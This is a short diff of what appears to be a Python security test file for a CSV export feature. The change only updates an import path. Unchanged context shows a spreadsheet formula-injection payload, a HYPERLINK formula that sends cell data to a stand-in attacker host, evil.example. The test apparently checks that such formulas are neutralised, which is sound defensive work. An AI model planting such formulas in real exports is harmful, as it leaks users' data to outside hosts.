@@ -13,7 +13,7 @@ import pytest
 from tests.security.conftest import visitor_client
 from tests.security.discovery import Site, Visit
 from tests.security.filling import fill, typed_fields
-from toolbox.csvexport import FORMULA_STARTS
+from toolbox.web.csvexport import FORMULA_STARTS
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")',
